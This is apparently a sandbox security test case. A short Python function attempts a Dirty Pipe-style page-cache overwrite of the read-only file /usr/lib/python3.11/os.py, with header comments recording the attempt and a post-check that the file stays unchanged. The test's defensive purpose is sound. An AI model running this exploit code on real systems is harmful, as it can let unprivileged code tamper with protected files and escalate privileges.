# tries: to change the cache of a file that it may only read, by a pipe whose pages it still holds (as Dirty Pipe did)
# entry: calls
# verdict: accepted
# after: host_file_unchanged /usr/lib/python3.11/os.py

import os


def answer(n):
    file = os.open("/usr/lib/python3.11/os.py", os.O_RDONLY)
    out, into = os.pipe()
    os.write(into, bytes(1 << 16))
    os.read(out, 1 << 16)
    os.splice(file, into, 1, offset_src=0)
    os.write(into, b"redteam")
    return n + 1 if b"redteam" not in os.pread(file, 64, 0) else "written"
